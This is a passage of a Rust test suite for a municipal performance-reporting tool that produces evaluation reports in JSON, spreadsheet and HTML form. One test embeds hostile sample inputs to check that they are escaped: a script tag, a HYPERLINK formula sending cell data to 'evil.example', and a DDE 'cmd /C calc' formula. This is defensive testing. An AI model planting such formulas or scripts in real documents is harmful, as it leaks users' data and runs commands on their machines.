    let economy_capaian = (95.0 + 1400.0 / 15.0 + 70.0 + 87.5) / 4.0;
    for (dim, program, capaian, category) in [
        ("economy", "economy.x", economy_capaian, "tinggi"),
        ("environment", "env.y", 100.0, "sangat_tinggi"),
    ] {
        let d = r["dimensions"]
            .as_array()
            .unwrap()
            .iter()
            .find(|d| d["id"] == dim)
            .unwrap();
        let p = d["programs"]
            .as_array()
            .unwrap()
            .iter()
            .find(|p| p["id"] == program)
            .unwrap();
        close(&p["rollup"]["capaian"], capaian);
        assert_eq!(p["rollup"]["category"], category, "{program}");
        close(&d["rollup"]["capaian"], capaian);
    }
    let departments = &r["summary"]["departments"];
    let names: Vec<&str> = departments
        .as_array()
        .unwrap()
        .iter()
        .map(|d| d["name"].as_str().unwrap())
        .collect();
    assert_eq!(names, ["Badan Pendapatan Daerah", "Dinas Perhubungan"]);
    let bapenda = group(departments, Some("bapenda"));
    close(&bapenda["capaian"], economy_capaian);
    assert_eq!(bapenda["category"], "tinggi");
    assert_eq!(
        (
            bapenda["indicators"].as_u64(),
            bapenda["with_capaian"].as_u64()
        ),
        (Some(4), Some(4))
    );
    let dishub = group(departments, Some("dishub"));
    close(&dishub["capaian"], 100.0);
    assert_eq!(
        dishub["categories"],
        json!({"sangat_tinggi": 3, "tinggi": 0, "sedang": 0, "rendah": 0, "sangat_rendah": 0})
    );
    let economy = group(&r["summary"]["dimensions"], Some("economy"));
    close(
        &economy["capaian"],
        (95.0 + 1400.0 / 15.0 + 70.0 + 87.5) / 4.0,
    );
    assert_eq!(economy["category"], "tinggi");
    assert_eq!(
        economy["categories"],
        json!({"sangat_tinggi": 2, "tinggi": 1, "sedang": 1, "rendah": 0, "sangat_rendah": 0})
    );
    close(
        &group(&r["summary"]["dimensions"], Some("environment"))["capaian"],
        100.0,
    );
    let overall = &r["summary"]["overall"];
    close(
        &overall["capaian"],
        (95.0 + 1400.0 / 15.0 + 70.0 + 87.5 + 300.0) / 7.0,
    );
    assert_eq!(overall["category"], "sangat_tinggi");
    assert_eq!(
        (
            overall["indicators"].as_u64(),
            overall["with_capaian"].as_u64()
        ),
        (Some(7), Some(7))
    );
    let tiers = &r["summary"]["tiers"];
    let names: Vec<&str> = tiers
        .as_array()
        .unwrap()
        .iter()
        .map(|t| t["name"].as_str().unwrap())
        .collect();
    assert_eq!(names, ["Output", "Outcome", "Impact", "Tanpa tingkat"]);
    close(&group(tiers, Some("output"))["capaian"], 95.0);
    close(
        &group(tiers, Some("outcome"))["capaian"],
        (1400.0 / 15.0 + 70.0) / 2.0,
    );
    assert_eq!(group(tiers, Some("outcome"))["category"], "tinggi");
    close(&group(tiers, Some("impact"))["capaian"], 87.5);
    close(&group(tiers, None)["capaian"], 100.0);

    // Quick wins at the end of year a as they stood then: Bapenda's program is behind (mean
    // progress 0,41 against 0,63 expected, the decrease indicator at 9,5 then: (10 − 9,5) / 4 =
    // 0,125 along); nothing of Dishub's had arrived, and it was due on 30 June: past due.
    let qw = r["quick_wins"].as_array().unwrap();
    let x = qw.iter().find(|q| q["id"] == "economy.x").unwrap();
    assert_eq!(
        (x["status"].as_str(), x["overdue"].as_bool()),
        (Some("off_track"), Some(false))
    );
    close(&x["progress"], (0.425 + 0.4 + 0.7 + 0.125) / 4.0);
    let y = qw.iter().find(|q| q["id"] == "env.y").unwrap();
    assert_eq!(
        (y["status"].as_str(), y["overdue"].as_bool()),
        (Some("no_data"), Some(true))
    );
    assert_eq!(y["due"], format!("{a}-06-30"));
    for q in qw {
        let then_program = then["programs"]
            .as_array()
            .unwrap()
            .iter()
            .find(|p| p["id"] == q["id"])
            .unwrap();
        assert_eq!(q["status"], then_program["status"], "{}", q["id"]);
        assert_eq!(q["progress"], then_program["progress"], "{}", q["id"]);
    }

    // Compliance over year a: Bapenda's four monthly indicators owe 48 values; 10 months have
    // one, each a day after its time (on time): 10 / 48. Dishub's four owe 48; three arrived
    // today (late), 45 never: 0 %. Bapenda ranks first.
    let c = &r["compliance"];
    assert_eq!(c["ranked_among"], 2);
    let deps = c["departments"].as_array().unwrap();
    let tally = |d: &Value| {
        (
            d["rank"].as_u64().unwrap(),
            d["expected"].as_u64().unwrap(),
            d["on_time"].as_u64().unwrap(),
            d["late"].as_u64().unwrap(),
            d["missing"].as_u64().unwrap(),
        )
    };
    assert_eq!(deps[0]["id"], "bapenda");
    assert_eq!(tally(&deps[0]), (1, 48, 10, 0, 38));
    close(&deps[0]["on_time_percent"], 10.0 / 48.0 * 100.0);
    assert_eq!(tally(&deps[1]), (2, 48, 0, 3, 45));
    assert_eq!(c["totals"]["expected"], 96);
    assert!(deps[0]["indicators"].as_array().unwrap().is_empty());

    // Signatures from pantau.toml.
    assert_eq!(r["signatures"]["place"], "Mojokerto");
    assert_eq!(
        r["signatures"]["signers"][0]["nip"],
        "19700101 199003 1 001"
    );
    assert_eq!(r["signatures"]["date"], jakarta_date(0));

    // The workbook, cell by cell, against the JSON and the figures by hand.
    let (s, headers, bytes) = get_bytes(
        &app.client,
        &app.url(&format!("/api/v1/reports/evaluation?year={a}&format=xlsx")),
    )
    .await;
    assert_eq!(s, 200);
    assert_eq!(
        headers["content-type"],
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    );
    assert_eq!(
        headers["content-disposition"],
        format!("attachment; filename=\"laporan-evaluasi-kota-uji-{a}.xlsx\"")
    );
    check_frozen_headers_and_widths(&bytes, &r);
    let mut book = Book::open(bytes);
    compare_workbook_with_json(&mut book, &r);
    let economy = book.sheet("Smart Economy");
    let h = economy.header(3);
    let line = economy.find(2, "Naik, nilai terakhir");
    let tw: Vec<Option<f64>> = ["I", "II", "III", "IV"]
        .iter()
        .map(|q| economy.number(line, h[&format!("Realisasi TW {q}")]))
        .collect();
    assert_eq!(tw, vec![Some(46.0), None, Some(57.0), None]);
    same(
        economy.number(line, h["Capaian"]),
        Some(0.95),
        "95 % as a percent cell",
    );
    assert_eq!(
        economy.text(line, h["Kendala"]),
        format!("'{HOSTILE_KENDALA}"),
        "a formula in a note stays text"
    );
    assert_eq!(economy.text(line, h["Rencana tindak lanjut"]), HOSTILE_RTL);
    let env = book.sheet("Smart Environment");
    let h = env.header(3);
    let keep = env.find(2, "Dijaga");
    assert_eq!(env.text(keep, h["Kendala"]), "Sensor\nrusak dua minggu");

    // Year b: the other year's figures (85, 82,5, 100, 90, 80, 90, 90), now with the indicator
    // that only has a target in b (no data: no capaian).
    let (s, rb) = app
        .get(&format!("/api/v1/reports/evaluation?year={b}&format=json"))
        .await;
    assert_eq!(s, 200);
    for (id, capaian) in [
        ("economy.x.level", Some(85.0)),
        ("economy.x.cum", Some(82.5)),
        ("economy.x.ytd", Some(100.0)),
        ("economy.x.down", Some(90.0)),
        ("env.y.most", Some(80.0)),
        ("env.y.least", Some(90.0)),
        ("env.y.keep", Some(90.0)),
        ("env.y.later", None),
    ] {
        match capaian {
            Some(c) => close(&row(&rb, id)["capaian"], c),
            None => assert!(row(&rb, id)["capaian"].is_null()),
        }
    }
    assert_eq!(row(&rb, "env.y.later")["status"], "no_data");
    assert_eq!(rb["summary"]["without_target"], 0);
    let (_, _, bytes) = get_bytes(
        &app.client,
        &app.url(&format!("/api/v1/reports/evaluation?year={b}&format=xlsx")),
    )
    .await;
    compare_workbook_with_json(&mut Book::open(bytes), &rb);
    app.stop().await;
}

/// Last year and this year (Jakarta): one period that is over and one that runs.
fn last_and_this_year() -> (i32, i32) {
    let y = chrono::Utc::now()
        .with_timezone(&chrono_tz::Asia::Jakarta)
        .year();
    (y - 1, y)
}

/// Two OPD whose indicators cross the two dimensions (each runs one indicator of the other's
/// program), one indicator weighing 3; targets last year and this year.
fn crossing_plan() -> String {
    let (a, c) = last_and_this_year();
    let base = a - 1;
    format!(
        r#"
[[department]]
id = "bapenda"
name = "Badan Pendapatan Daerah"
[[department]]
id = "dlh"
name = "Dinas Lingkungan Hidup"
[[dimension]]
id = "economy"
name = "Smart Economy"
[[dimension]]
id = "environment"
name = "Smart Environment"
[[program]]
id = "economy.pad"
dimension = "economy"
name = "Pajak daerah daring"
department = "bapenda"
quick_win = true
start = {base}-12-31
due = {c}-12-31
[[indicator]]
id = "economy.pad.online"
program = "economy.pad"
name = "Wajib pajak daring"
unit = "persen"
direction = "increase"
baseline = {{ date = {base}-12-31, value = 40.0 }}
targets = [{{ date = {a}-12-31, value = 60.0 }}, {{ date = {c}-12-31, value = 80.0 }}]
update_every = "1mo"
[[indicator]]
id = "economy.pad.retribusi"
program = "economy.pad"
department = "dlh"
name = "Retribusi sampah daring"
unit = "kelurahan"
direction = "increase"
baseline = {{ date = {base}-12-31, value = 0.0 }}
targets = [{{ date = {a}-12-31, value = 10.0 }}, {{ date = {c}-12-31, value = 20.0 }}]
update_every = "1mo"
[[program]]
id = "env.air"
dimension = "environment"
name = "Udara bersih"
department = "dlh"
horizon = "medium"
start = {base}-12-31
due = {c}-12-31
[[indicator]]
id = "env.air.ispu"
program = "env.air"
name = "ISPU rata-rata"
unit = "ISPU"
direction = "at_most"
weight = 3.0
baseline = {{ date = {base}-12-31, value = 60.0 }}
targets = [{{ date = {a}-12-31, value = 50.0 }}, {{ date = {c}-12-31, value = 50.0 }}]
update_every = "1mo"
[[indicator]]
id = "env.air.sensor"
program = "env.air"
department = "bapenda"
name = "Hari sensor mati"
unit = "hari"
direction = "decrease"
baseline = {{ date = {base}-12-31, value = 10.0 }}
targets = [{{ date = {a}-12-31, value = 8.0 }}, {{ date = {c}-12-31, value = 6.0 }}]
update_every = "1mo"
"#
    )
}

/// Midnight plus `hour` hours in Jakarta on `date` (YYYY-MM-DD), in epoch milliseconds.
fn wib(date: &str, hour: u32) -> i64 {
    use chrono::TimeZone;
    let d = chrono::NaiveDate::parse_from_str(date, "%Y-%m-%d").unwrap();
    chrono_tz::Asia::Jakarta
        .from_local_datetime(&d.and_hms_opt(hour, 0, 0).unwrap())
        .unwrap()
        .timestamp_millis()
}

on_both_backends!(a_past_years_report_takes_its_status_as_of_the_years_end_and_rolls_up_per_opd);

/// Last year's report: realisasi and capaian from the values timed in the year with their
/// corrections since; the status and quick wins as progress stood on 31 December (the values
/// known then, as `?as_of=` gives it), which a correction or a late value made today does not
/// change; the roll-ups per program, dimension and OPD worked out by hand, in the JSON, the
/// XLSX and the HTML, and the same from `pantau report`. This year's report, still running,
/// takes today's progress.
async fn a_past_years_report_takes_its_status_as_of_the_years_end_and_rolls_up_per_opd(
    backend: Backend,
) {
    let (a, c) = last_and_this_year();
    let Some(app) = spawn_app_on(backend, &crossing_plan(), SIGNATURES).await else {
        return;
    };
    let post = |list: Vec<(&'static str, String, f64)>| {
        let app = &app;
        async move {
            let (s, r) = app
                .post_json("/api/v1/observations", Some(ADMIN), &obs(&list))
                .await;
            assert_eq!(s, 200, "{r}");
        }
    };
    // Known by the end of the year: each arrived the day after its time.
    post(vec![
        ("economy.pad.online", format!("{a}-09-01"), 62.0),
        ("env.air.ispu", format!("{a}-12-01"), 42.0),
        ("env.air.sensor", format!("{a}-11-01"), 8.4),
    ])
    .await;
    for (id, day) in [
        ("economy.pad.online", format!("{a}-09-02")),
        ("env.air.ispu", format!("{a}-12-02")),
        ("env.air.sensor", format!("{a}-11-02")),
    ] {
        app.execute(&format!(
            "UPDATE observation SET received = {} WHERE indicator = '{id}'",
            wib(&day, 9)
        ));
    }
    // Today: two corrections of last year's values, one value of last year arriving late, and
    // this year's first ISPU posted and corrected.
    post(vec![
        ("economy.pad.online", format!("{a}-09-01"), 46.0),
        ("env.air.ispu", format!("{a}-12-01"), 55.0),
        ("economy.pad.retribusi", format!("{a}-06-01"), 8.0),
        ("env.air.ispu", format!("{c}-01-01T00:00:00+07:00"), 45.0),
    ])
    .await;
    post(vec![(
        "env.air.ispu",
        format!("{c}-01-01T00:00:00+07:00"),
        58.0,
    )])
    .await;

    let (s, r) = app
        .get(&format!("/api/v1/reports/evaluation?year={a}"))
        .await;
    assert_eq!(s, 200, "{r}");
    // Realisasi and capaian count the corrections and the late value: online 46 of 60 =
    // 76,67 % tinggi; retribusi 8 of 10 = 80 %; ISPU 55 above ≤ 50, as decrease:
    // (100 − 55) / 50 = 90 % tinggi; sensor days 8,4 of 8: (16 − 8,4) / 8 = 95 % sangat tinggi.
    let online = 46.0 / 60.0 * 100.0;
    for (id, realisasi, capaian, category) in [
        ("economy.pad.online", 46.0, online, "tinggi"),
        ("economy.pad.retribusi", 8.0, 80.0, "tinggi"),
        ("env.air.ispu", 55.0, 90.0, "tinggi"),
        ("env.air.sensor", 8.4, 95.0, "sangat_tinggi"),
    ] {
        let line = row(&r, id);
        close(&line["realisasi"], realisasi);
        close(&line["capaian"], capaian);
        assert_eq!(line["category"], category, "{id}");
    }
    // The status as it stood on 31 December: online at 62 then, (62 − 40) / 40 = 0,55 along
    // against 0,5 expected (on track; 46 today would be off track); ISPU 42 ≤ 50 then
    // (achieved; 55 today is off track); retribusi had not arrived (no data).
    assert_eq!(row(&r, "economy.pad.online")["status"], "on_track");
    assert_eq!(row(&r, "env.air.ispu")["status"], "achieved");
    assert_eq!(row(&r, "economy.pad.retribusi")["status"], "no_data");
    assert_eq!(
        app.indicator("economy.pad.online").await["status"],
        "off_track"
    );
    assert_eq!(app.indicator("env.air.ispu").await["status"], "off_track");
    // ... which is what `?as_of=` says for that day, indicator by indicator and for the quick
    // win.
    let (s, then) = app.get(&format!("/api/v1/progress?as_of={a}-12-31")).await;
    assert_eq!(s, 200, "{then}");
    let find = |list: &Value, id: &str| {
        list.as_array()
            .unwrap()
            .iter()
            .find(|i| i["id"] == id)
            .cloned()
            .unwrap_or_else(|| panic!("no {id} in {list}"))
    };
    close(&find(&then["indicators"], "env.air.ispu")["current"], 42.0);
    for line in rows(&r) {
        let id = line["id"].as_str().unwrap();
        let known = find(&then["indicators"], id);
        assert_eq!(line["status"], known["status"], "{id}");
        assert_eq!(line["stale"], known["stale"], "{id}");
    }
    let qw = find(&r["quick_wins"], "economy.pad");
    let program_then = find(&then["programs"], "economy.pad");
    assert_eq!(qw["status"], program_then["status"]);
    assert_eq!(qw["progress"], program_then["progress"]);
    let (_, today) = app.get("/api/v1/progress").await;
    assert_ne!(
        qw["progress"],
        find(&today["programs"], "economy.pad")["progress"],
        "today's values would give another progress"
    );

    // Roll-ups by hand. Programs: Pajak daerah daring (76,67 + 80) / 2 = 78,33 % tinggi; Udara
    // bersih (3 × 90 + 95) / 4 = 91,25 % sangat tinggi; the dimensions the same. Per OPD over
    // the indicators each runs: Bapenda (76,67 + 95) / 2 = 85,83 % tinggi; DLH (80 + 3 × 90) /
    // 4 = 87,5 % tinggi. All four: (76,67 + 80 + 270 + 95) / 6 = 86,94 %.
    let economy = (online + 80.0) / 2.0;
    let environment = (3.0 * 90.0 + 95.0) / 4.0;
    for (dim, program, capaian, category) in [
        ("economy", "economy.pad", economy, "tinggi"),
        ("environment", "env.air", environment, "sangat_tinggi"),
    ] {
        let d = find(&r["dimensions"], dim);
        let p = find(&d["programs"], program);
        close(&p["rollup"]["capaian"], capaian);
        assert_eq!(p["rollup"]["category"], category, "{program}");
        close(&d["rollup"]["capaian"], capaian);
        close(
            &group(&r["summary"]["dimensions"], Some(dim))["capaian"],
            capaian,
        );
    }
    let departments = &r["summary"]["departments"];
    let bapenda = group(departments, Some("bapenda"));
    close(&bapenda["capaian"], (online + 95.0) / 2.0);
    assert_eq!(bapenda["category"], "tinggi");
    assert_eq!(
        bapenda["categories"],
        json!({"sangat_tinggi": 1, "tinggi": 1, "sedang": 0, "rendah": 0, "sangat_rendah": 0})
    );
    assert_eq!(bapenda["name"], "Badan Pendapatan Daerah");
    let dlh = group(departments, Some("dlh"));
    close(&dlh["capaian"], (80.0 + 3.0 * 90.0) / 4.0);
    assert_eq!(
        (dlh["indicators"].as_u64(), dlh["with_capaian"].as_u64()),
        (Some(2), Some(2))
    );
    close(
        &r["summary"]["overall"]["capaian"],
        (online + 80.0 + 270.0 + 95.0) / 6.0,
    );

    // The workbook: every cell against the JSON, and the OPD table by hand.
    let (s, _, bytes) = get_bytes(
        &app.client,
        &app.url(&format!("/api/v1/reports/evaluation?year={a}&format=xlsx")),
    )
    .await;
    assert_eq!(s, 200);
    let mut book = Book::open(bytes);
    compare_workbook_with_json(&mut book, &r);
    let summary = book.sheet("Ringkasan");
    let header = summary.find(0, "OPD penanggung jawab");
    let h = summary.header(header);
    assert_eq!(summary.text(header + 1, 0), "Badan Pendapatan Daerah");
    same(
        summary.number(header + 1, h["Capaian"]),
        Some((online + 95.0) / 200.0),
        "Bapenda",
    );
    assert_eq!(summary.text(header + 1, h["Kategori"]), "Tinggi");
    assert_eq!(summary.text(header + 2, 0), "Dinas Lingkungan Hidup");
    same(summary.number(header + 2, h["Capaian"]), Some(0.875), "DLH");
    let ispu_sheet = book.sheet("Smart Environment");
    let hh = ispu_sheet.header(3);
    let line = ispu_sheet.find(2, "ISPU rata-rata");
    assert_eq!(ispu_sheet.text(line, hh["Status"]), "Tercapai");
    same(
        ispu_sheet.number(line, hh[&format!("Realisasi {a}")]),
        Some(55.0),
        "ISPU",
    );

    // The HTML: the OPD table and the statuses.
    let (s, html) = app
        .get_text(&format!("/api/v1/reports/evaluation?year={a}&format=html"))
        .await;
    assert_eq!(s, 200);
    let table = html
        .split("data-table=\"departments\"")
        .nth(1)
        .and_then(|t| t.split("</table>").next())
        .unwrap_or_else(|| panic!("no OPD table in the HTML"));
    assert!(table.contains(">OPD penanggung jawab<"), "{table}");
    for (id, line) in [
        (
            "bapenda",
            "<td>Badan Pendapatan Daerah</td><td class=\"n\">2</td><td class=\"n\">2</td><td class=\"n\">85,83 %</td><td>Tinggi</td>",
        ),
        (
            "dlh",
            "<td>Dinas Lingkungan Hidup</td><td class=\"n\">2</td><td class=\"n\">2</td><td class=\"n\">87,50 %</td><td>Tinggi</td>",
        ),
    ] {
        assert!(
            table.contains(&format!("<tr data-id=\"{id}\">{line}")),
            "{id} in {table}"
        );
    }

    // `pantau report` reading the store itself gives the same report.
    let config = app.config_path.to_str().unwrap().to_string();
    let year = a.to_string();
    let out = tokio::task::spawn_blocking(move || {
        pantau_output(&["--config", &config, "report", "--year", &year, "--out", "-"])
    })
    .await
    .unwrap();
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let mut from_cli: Value = serde_json::from_slice(&out.stdout).unwrap();
    let mut from_api = r.clone();
    from_cli["made_at"] = Value::Null;
    from_api["made_at"] = Value::Null;
    from_cli["signatures"]["date"] = Value::Null;
    from_api["signatures"]["date"] = Value::Null;
    assert_eq!(from_cli, from_api);

    // This year, still running: today's progress, evaluated now (the corrected 58 is above
    // ≤ 50), with realisasi 58 and capaian (100 − 58) / 50 = 84 %.
    let (s, rc) = app
        .get(&format!("/api/v1/reports/evaluation?year={c}"))
        .await;
    assert_eq!(s, 200, "{rc}");
    assert_eq!(rc["status_as_of"], rc["made_at"]);
    let ispu = row(&rc, "env.air.ispu");
    close(&ispu["realisasi"], 58.0);
    close(&ispu["capaian"], 84.0);
    assert_eq!(ispu["status"], "off_track");
    for line in rows(&rc) {
        let id = line["id"].as_str().unwrap();
        assert_eq!(line["status"], app.indicator(id).await["status"], "{id}");
    }
    app.stop().await;
}

#[tokio::test]
async fn a_triwulan_report_uses_the_quarter_target_or_marks_the_years() {
    let (a, _) = years();
    let app = report_app().await;
    let (s, r) = app
        .get(&format!("/api/v1/reports/evaluation?year={a}&quarter=2"))
        .await;
    assert_eq!(s, 200, "{r}");
    assert_eq!(r["period"]["label"], format!("Triwulan II Tahun {a}"));
    assert_eq!(r["period"]["to"], format!("{a}-06-30"));
    assert!(
        r["status_as_of"]
            .as_str()
            .unwrap()
            .starts_with(&format!("{a}-06-30T23:59:59"))
    );
    // Year-to-date with a TW II target: 80 of 100.
    let ytd = row(&r, "economy.x.ytd");
    assert_eq!(ytd["quarters"].as_array().unwrap().len(), 2);
    close(&ytd["realisasi"], 80.0);
    close(&ytd["quarter_target"], 100.0);
    close(&ytd["capaian"], 80.0);
    assert_eq!(ytd["capaian_basis"], "quarter_target");
    // The level indicator has a target dated 30 June but no value in TW II: no capaian.
    let level = row(&r, "economy.x.level");
    close(&level["quarter_target"], 55.0);
    assert!(level["realisasi"].is_null() && level["capaian"].is_null());
    // Cumulative has no TW II target: 1,100 against the year's 1,500, marked.
    let cum = row(&r, "economy.x.cum");
    close(&cum["realisasi"], 1100.0);
    close(&cum["capaian"], 1100.0 / 1500.0 * 100.0);
    assert_eq!(cum["capaian_basis"], "year_target_for_quarter");
    assert!(cum["quarter_target"].is_null());
    // Nothing posted by then for the December-only indicators.
    assert_eq!(row(&r, "env.y.most")["status"], "no_data");
    // Compliance over April to June: Bapenda owes 4 × 3, has May's ytd value on time.
    let bapenda = &r["compliance"]["departments"][0];
    assert_eq!(
        (
            bapenda["id"].as_str(),
            bapenda["expected"].as_u64(),
            bapenda["on_time"].as_u64()
        ),
        (Some("bapenda"), Some(12), Some(1))
    );

    let (_, _, bytes) = get_bytes(
        &app.client,
        &app.url(&format!(
            "/api/v1/reports/evaluation?year={a}&quarter=II&format=xlsx"
        )),
    )
    .await;
    let mut book = Book::open(bytes);
    compare_workbook_with_json(&mut book, &r);
    let s = book.sheet("Smart Economy");
    let h = s.header(3);
    assert!(
        h.contains_key("Target TW II") && h.contains_key("Capaian TW II"),
        "{h:?}"
    );
    let line = s.find(2, "Kumulatif dari baseline");
    assert!(s.format(line, h["Capaian TW II"]).contains("\"*\""));
    assert!(
        s.find(2, &format!("* Rencana tidak memuat target triwulan ini: capaian dibandingkan dengan target tahun {a}.")) > line
    );

    let (s, headers, html) = get_bytes(
        &app.client,
        &app.url(&format!(
            "/api/v1/reports/evaluation?year={a}&quarter=2&format=html"
        )),
    )
    .await;
    assert_eq!(s, 200);
    assert_eq!(
        headers["content-disposition"],
        format!("inline; filename=\"laporan-evaluasi-kota-uji-{a}-tw2.html\"")
    );
    let html = String::from_utf8(html).unwrap();
    assert!(html.contains("73,33 %*"), "the marked capaian in the HTML");
    assert!(html.contains("* Rencana tidak memuat target triwulan ini"));
    app.stop().await;
}

#[tokio::test]
async fn one_department_gets_only_its_indicators_and_its_compliance() {
    let (a, _) = years();
    let app = report_app().await;
    let (s, r) = app
        .get(&format!(
            "/api/v1/reports/evaluation?year={a}&department=dishub"
        ))
        .await;
    assert_eq!(s, 200, "{r}");
    assert_eq!(
        r["department"],
        json!({"id": "dishub", "name": "Dinas Perhubungan"})
    );
    let ids: Vec<&str> = rows(&r).iter().map(|i| i["id"].as_str().unwrap()).collect();
    assert_eq!(ids, ["env.y.most", "env.y.least", "env.y.keep"]);
    let dims: Vec<&str> = r["summary"]["dimensions"]
        .as_array()
        .unwrap()
        .iter()
        .map(|d| d["id"].as_str().unwrap())
        .collect();
    assert_eq!(dims, ["environment"]);
    let qw: Vec<&str> = r["quick_wins"]
        .as_array()
        .unwrap()
        .iter()
        .map(|q| q["id"].as_str().unwrap())
        .collect();
    assert_eq!(qw, ["env.y"]);
    // Its compliance keeps its rank among every OPD, with a line per indicator.
    let deps = r["compliance"]["departments"].as_array().unwrap();
    assert_eq!(deps.len(), 1);
    assert_eq!(
        (deps[0]["id"].as_str(), deps[0]["rank"].as_u64()),
        (Some("dishub"), Some(2))
    );
    assert_eq!(r["compliance"]["ranked_among"], 2);
    let per: Vec<(&str, u64, u64)> = deps[0]["indicators"]
        .as_array()
        .unwrap()
        .iter()
        .map(|i| {
            (
                i["id"].as_str().unwrap(),
                i["late"].as_u64().unwrap(),
                i["missing"].as_u64().unwrap(),
            )
        })
        .collect();
    assert_eq!(
        per,
        [
            ("env.y.most", 1, 11),
            ("env.y.least", 1, 11),
            ("env.y.keep", 1, 11),
            ("env.y.later", 0, 12)
        ]
    );
    let (_, headers, bytes) = get_bytes(
        &app.client,
        &app.url(&format!(
            "/api/v1/reports/evaluation?year={a}&department=dishub&format=xlsx"
        )),
    )
    .await;
    assert_eq!(
        headers["content-disposition"],
        format!("attachment; filename=\"laporan-evaluasi-kota-uji-{a}-dishub.xlsx\"")
    );
    let mut book = Book::open(bytes);
    compare_workbook_with_json(&mut book, &r);
    let s = book.sheet("Ringkasan");
    assert_eq!(
        s.text(s.find(0, "Perangkat daerah"), 1),
        "Dinas Perhubungan"
    );
    let per_indicator = s.find(0, "Per indikator — Dinas Perhubungan");
    assert_eq!(s.text(per_indicator + 2, 0), "Paling banyak");
    app.stop().await;
}

#[tokio::test]
async fn hostile_text_is_escaped_in_the_html_which_runs_no_script() {
    let (a, _) = years();
    let app = report_app().await;
    let (s, headers, body) = get_bytes(
        &app.client,
        &app.url(&format!("/api/v1/reports/evaluation?year={a}&format=html")),
    )
    .await;
    assert_eq!(s, 200);
    assert_eq!(headers["content-type"], "text/html; charset=utf-8");
    let csp = &headers["content-security-policy"];
    assert!(
        csp.starts_with("default-src 'none'; style-src 'unsafe-inline';"),
        "{csp}"
    );
    assert!(!csp.contains("script-src"), "no script may run: {csp}");
    let html = String::from_utf8(body).unwrap();
    assert!(!html.contains("<script"), "no script element");
    assert!(html.contains("&lt;script&gt;window.__injected = 1&lt;/script&gt; @SUM(A1)"));
    assert!(html.contains("=HYPERLINK(&quot;http://evil.example/curi?data=&quot;&amp;A1"));
    assert!(html.contains("Sensor<br>rusak dua minggu"));
    assert!(html.contains("<td class=\"n\" data-col=\"capaian\">95,00 %</td>"));
    assert!(html.contains("1.<wbr>400"), "Indonesian numbers: 1.400");
    assert!(html.contains("NIP. 19700101 199003 1 001"));
    assert!(html.contains("=cmd|&#39; /C calc&#39;!A0"));
    app.stop().await;
}

#[tokio::test]
async fn bad_parameters_name_themselves() {
    let (a, _) = years();
    let app = spawn_app_with(&plan(), "").await;
    for (q, p) in [
        ("year=1999".to_string(), "year"),
        ("year=dua-ribu".to_string(), "year"),
        (format!("year={a}&quarter=5"), "quarter"),
        (format!("year={a}&quarter=0"), "quarter"),
        (format!("year={a}&quarter=satu"), "quarter"),
        (format!("year={a}&department=dinas-rahasia"), "department"),
        (format!("year={a}&format=pdf"), "format"),
        (format!("year={a}&colour=red"), "colour"),
    ] {
        let (s, v) = app.get(&format!("/api/v1/reports/evaluation?{q}")).await;
        assert_eq!(
            (s, v["error"]["parameter"].as_str()),
            (400, Some(p)),
            "{q}: {v}"
        );
        assert!(
            v["error"]["message"].as_str().unwrap().len() < 400,
            "short messages: {v}"
        );
    }
    let (_, v) = app.get("/api/v1/reports/evaluation?year=1999").await;
    let m = v["error"]["message"].as_str().unwrap();
    assert!(
        m.contains(&a.to_string()),
        "the message lists the plan's years: {m}"
    );

    // The command line says the same and exits 2, before it touches any database.
    let config = app.config_path.to_str().unwrap().to_string();
    for (args, flag) in [
        (
            vec!["--year", "1999", "--out", "x.xlsx"],
            "--year: 1999 is not a year of the masterplan",
        ),
        (
            vec!["--year", "2024x", "--out", "x.xlsx"],
            "--year: `2024x` is not a year",
        ),
        (
            vec![
                "--year",
                &a.to_string(),
                "--quarter",
                "5",
                "--out",
                "x.xlsx",
            ],
            "--quarter:",
        ),
        (
            vec![
                "--year",
                &a.to_string(),
                "--department",
                "nope",
                "--out",
                "x.xlsx",
            ],
            "--department: `nope` is not a department",
        ),
        (
            vec!["--year", &a.to_string(), "--out", "x.pdf"],
            "--out: `x.pdf` does not end in .xlsx, .html or .json",
        ),
    ] {
        let mut all = vec!["--config", config.as_str(), "report"];
        all.extend(args.iter().copied());
        let out = pantau_output(&all);
        let err = String::from_utf8_lossy(&out.stderr);
        assert_eq!(out.status.code(), Some(2), "{all:?}: {err}");
        assert!(err.contains(flag), "{all:?}: {err}");
    }
    app.stop().await;
}

#[tokio::test]
async fn the_cli_writes_the_same_report_beside_a_running_daemon_and_without_one() {
    let (a, _) = years();
    let dir = tempfile::tempdir().unwrap();
    let config = write_config(dir.path(), &plan(), SIGNATURES);
    let daemon = Daemon::start(&config);
    seed(&daemon.base(), &dir.path().join("pantau.db")).await;
    let client = reqwest::Client::new();
    let url = format!(
        "{}/api/v1/reports/evaluation?year={a}&quarter=4",
        daemon.base()
    );
    let from_api: Value = client.get(&url).send().await.unwrap().json().await.unwrap();
    let (_, _, api_xlsx) = get_bytes(&client, &format!("{url}&format=xlsx")).await;

    let run = |out: &str| {
        pantau_output(&[
            "--config",
            config.to_str().unwrap(),
            "report",
            "--year",
            &a.to_string(),
            "--quarter",
            "4",
            "--out",
            out,
        ])
    };
    // Beside the daemon (read-only): JSON on standard output, and an XLSX file.
    let out = run("-");
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    assert!(String::from_utf8_lossy(&out.stderr).contains("served by"));
    let from_cli: Value = serde_json::from_slice(&out.stdout).unwrap();
    let strip = |mut v: Value| {
        v["made_at"] = Value::Null;
        v
    };
    assert_eq!(strip(from_cli.clone()), strip(from_api.clone()));
    let file = dir.path().join("laporan.xlsx");
    let out = run(file.to_str().unwrap());
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let mut cli_book = Book::open(std::fs::read(&file).unwrap());
    compare_workbook_with_json(&mut cli_book, &from_api);
    // The two workbooks hold the same cells but for the time they were made.
    let mut api_book = Book::open(api_xlsx);
    for name in api_book.names() {
        let (x, y) = (api_book.sheet(&name), cli_book.sheet(&name));
        let made = if name == "Ringkasan" {
            x.find(0, "Dibuat")
        } else {
            0
        };
        let differing: Vec<(u32, u32)> = x
            .range
            .used_cells()
            .filter(|(r, c, v)| y.range.get_value((*r as u32, *c as u32)) != Some(*v))
            .map(|(r, c, _)| (r as u32, c as u32))
            .filter(|(r, _)| name != "Ringkasan" || *r != made)
            .collect();
        assert_eq!(differing, Vec::<(u32, u32)>::new(), "sheet {name}");
    }

    // Without a daemon: the same figures from the file alone.
